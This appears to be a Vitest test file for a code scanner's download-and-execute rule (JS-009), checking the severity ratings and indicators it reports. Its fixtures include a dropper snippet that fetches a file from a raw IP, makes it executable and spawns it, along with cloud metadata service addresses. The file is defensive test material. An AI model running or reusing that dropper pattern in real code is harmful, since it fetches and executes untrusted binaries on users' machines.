import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-009 download-and-execute', () => {
  it('rates a raw-IP download that is written and run high', async () => {
    const code = `const http = require('http'), fs = require('fs'), cp = require('child_process');
      http.get('http://192.0.2.1/p', r => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('high');
    expect(f[0]?.iocs).toContain('http://192.0.2.1/p');
  });
  it('rates an HTTPS binary installer low', async () => {
    const code = `const https = require('https'), fs = require('fs'), cp = require('child_process');
      https.get('https://registry.example.invalid/pkg-' + process.platform + '.tgz', r => { fs.writeFileSync(bin, r); cp.execFileSync(bin, ['--version']); });`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('low');
  });
  it('needs all three steps', async () => {
    expect(
      await ruleFindings(
        'JS-009',
        "require('https').get('http://192.0.2.1/x'); require('fs').writeFileSync('a', 'b');",
      ),
    ).toHaveLength(0);
  });
});

describe('JS-009 download sources', () => {
  it('the cloud metadata service in the same file is no download source (a cloud CLI)', async () => {
    const code = `const http = require('http'), fs = require('fs'), cp = require('child_process');
      const IMDS = 'fd00:ec2::254';
      http.get({ host: IMDS, path: '/latest/meta-data/' }, (r) => r.pipe(fs.createWriteStream('/tmp/md')));
      cp.spawn('docker', ['build', '.']);`;
    const f = await ruleFindings('JS-009', code);
    expect(f[0]?.severity).toBe('low');
    const ecs = code.replace("'fd00:ec2::254'", "'169.254.170.2'");
    expect((await ruleFindings('JS-009', ecs))[0]?.severity).toBe('low');
  });
});
